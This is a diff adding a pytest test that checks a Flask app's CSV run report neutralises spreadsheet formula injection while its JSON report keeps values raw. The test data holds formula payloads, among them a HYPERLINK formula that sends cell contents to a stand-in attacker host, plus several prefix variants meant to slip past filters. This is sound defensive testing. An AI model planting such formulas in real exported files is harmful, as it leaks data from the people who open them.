@@ -65,3 +65,44 @@ def test_the_api_report(anon: FlaskClient, admin_hub: Hub, data: Data) -> None:
     assert anon.get(f"/api/runs/{run}/report").status_code == 401
     empty = anon.get(f"/api/runs/{data.ok_run}/report", headers=headers).json
     assert empty["records"] == []
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+]
+
+
+def test_report_csv_cells_are_neutralised_but_json_keeps_them_raw(
+    admin: FlaskClient, admin_hub: Hub, data: Data
+) -> None:
+    """Finding 4: cells a spreadsheet would evaluate were written as the partner sent them."""
+    log = RunLog(admin_hub.engine)
+    run = log.runs.start("partner", trigger="manual")
+    for n, formula in enumerate(FORMULAS):
+        log.events.add(
+            run,
+            "error",
+            "record",
+            "record rejected",
+            page=1,
+            identifier=formula,
+            raw=formula.encode(),
+            detail={"error": f"{formula} {n}"},
+        )
+    log.runs.finish(run, "ok")
+    text = admin.get(f"/admin/runs/{run}/report.csv").get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(rows) == len(FORMULAS)
+    for row in rows:
+        for field in ("identifier", "reason", "raw_xml"):
+            assert row[field].startswith("'"), (field, row[field])
+        assert row["page"] == "1"  # plain values stay as they are
+    raw = admin.get(f"/admin/runs/{run}/report.json").json
+    assert sorted(r["identifier"] for r in raw["records"]) == sorted(FORMULAS)
